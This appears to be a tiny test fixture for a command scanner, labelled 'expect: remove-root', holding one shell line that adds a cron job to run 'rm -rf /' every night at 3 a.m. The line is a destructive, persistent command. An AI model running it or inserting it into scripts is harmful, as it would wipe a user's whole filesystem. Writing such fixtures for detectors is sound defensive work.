# expect: remove-root
(crontab -l; echo "0 3 * * * rm -rf /") | crontab -
